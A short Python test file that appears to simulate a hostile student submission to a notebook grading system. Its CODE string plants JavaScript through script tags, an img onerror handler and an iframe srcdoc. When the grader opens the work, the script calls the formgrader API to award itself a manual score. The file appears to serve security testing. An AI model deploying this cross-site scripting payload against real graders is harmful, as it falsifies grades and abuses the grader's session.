"""Shows script to the browser of whoever marks it by hand."""

from pathlib import Path
from typing import Any

from tests.hostile import mallory, save

EARNS: dict[str, float] = {}
STATE = "graded"
CODE = """\
from IPython.display import HTML, Javascript, display
script = "fetch('/formgrader/api/grade/1', {method: 'PUT', body: JSON.stringify({manual_score: 12})})"
display(Javascript(script), HTML(f'<script>{script}</script><img src=x onerror="{script}">'))
display({'text/html': f'<iframe srcdoc="<script>{script}</script>">'}, raw=True)
"""


def submit(notebook: Any, folder: Path) -> None:
    mallory(notebook, CODE)
    save(notebook, folder)
